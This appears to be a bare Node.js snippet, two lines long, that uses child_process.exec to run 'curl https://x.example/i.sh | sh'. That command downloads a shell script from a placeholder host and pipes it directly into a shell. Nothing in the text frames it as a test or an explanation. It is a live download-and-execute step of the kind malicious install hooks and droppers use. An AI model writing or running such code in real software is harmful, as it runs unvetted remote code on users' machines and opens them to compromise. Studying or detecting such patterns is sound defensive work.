const { exec } = require('child_process');
exec('curl https://x.example/i.sh | sh');
